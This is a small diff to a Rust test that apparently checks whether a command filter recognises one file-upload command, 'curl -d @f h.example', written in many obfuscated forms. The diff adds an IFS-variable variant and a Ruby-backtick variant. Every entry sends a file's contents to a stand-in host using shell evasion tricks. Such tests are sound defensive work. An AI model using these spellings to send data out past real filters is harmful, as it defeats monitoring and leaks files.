@@ -16,6 +16,8 @@ fn one_command_in_many_spellings() {
         "curl${IFS}-d${IFS}@f${IFS}h.example",
         "curl$IFS-d$IFS@f$IFS'h.example'",
         "{curl,-d,@f,h.example}",
+        "IFS=,; c=curl,-d,@f,h.example; $c",
+        "ruby -e 'puts `curl -d @f h.example`'",
         "/usr/bin/curl -d @f h.example",
         "/usr/bin/c\\url -d@f h.example",
         "cu\\\nrl -d @f \\\n  h.example",
